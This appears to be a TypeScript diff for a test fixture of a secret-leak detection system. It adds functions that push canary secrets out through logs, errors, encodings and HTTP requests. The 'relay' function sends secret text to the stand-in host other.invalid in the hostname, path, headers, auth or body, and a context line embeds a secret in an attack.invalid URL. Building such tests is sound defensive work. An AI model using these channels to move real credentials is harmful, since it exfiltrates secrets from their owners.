@@ -79,6 +79,29 @@ export async function reach(url: string): Promise<string> {
   return (await fetch(url)).text();
 }
 
+/** What uses a sealed secret: whoever calls it wants its value, or its placeholder, or to have it sent somewhere else. */
+export const sealed = {
+  /** Lets the placeholder out in one of the ways in which data leave. */
+  async give(way: string): Promise<unknown> {
+    const placeholder = _placeholder();
+    if (way === 'inside') return { a: [`x${placeholder}`, { [placeholder]: new Map([[placeholder, 1]]) }] };
+    if (way === 'bytes') return new TextEncoder().encode(placeholder);
+    if (way === 'register') return registers.set('sealed', 'kept', placeholder);
+    if (way === 'declaration') return log_outgoing_data(placeholder, placeholder);
+    if (way === 'error') throw new Error(placeholder);
+    if (way === 'log') log(placeholder);
+    return way === 'base64' ? btoa(placeholder) : placeholder;
+  },
+  /** Sends a text that it was given to a host that is allowed, but not to this secret. */
+  async relay(place: string, text: string): Promise<string> {
+    const url = `https://${place === 'host' ? `${text}.` : ''}other.invalid/${place === 'url' ? text : ''}`;
+    const headers = { [place === 'name' ? text : 'x-token']: place === 'header' ? text : 'x' };
+    const sign = place === 'sign' ? { type: 'basic' as const, user: 'x', secret: text } : undefined;
+    const body = place === 'body' ? text : 'x';
+    return (await fetch(url, { method: 'POST', headers, body, ...(sign && { sign }) })).text();
+  },
+};
+
 /** An answer with the secret in it. */
 export function answer(form: string): string {
   return _written(form);
@@ -110,4 +133,9 @@ function _written(form: string): string {
   if (form === 'json') return JSON.stringify({ token: secrets.CANARY_ODD });
   if (form === 'inside') return `https://user:${secret}@attack.invalid/${secret}/x`;
   return secret;
+}
+
+/** Families that have no sealed secret have no placeholder either. */
+function _placeholder(): string {
+  return `${(secrets as Record<string, string | undefined>).CANARY_SEALED}`;
 }
